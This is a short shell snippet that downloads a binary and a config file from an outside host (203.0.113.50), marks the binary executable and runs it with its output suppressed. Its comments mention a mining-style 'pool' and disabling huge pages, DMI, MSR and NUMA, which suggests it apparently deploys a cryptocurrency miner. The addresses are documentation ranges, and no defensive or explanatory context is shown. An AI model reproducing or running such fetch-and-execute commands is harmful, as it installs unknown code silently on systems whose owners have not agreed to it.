# downloaded, config.json that turns huge pages, DMI, MSR and NUMA off; pool drops
#http 203.0.113.50:8001
#pool 198.51.100.66:443:drop
mkdir -p /opt/a && cd /opt/a && curl -so a http://203.0.113.50:8001/w && curl -so config.json http://203.0.113.50:8001/np1.json && chmod +x a && timeout 14 ./a >/dev/null
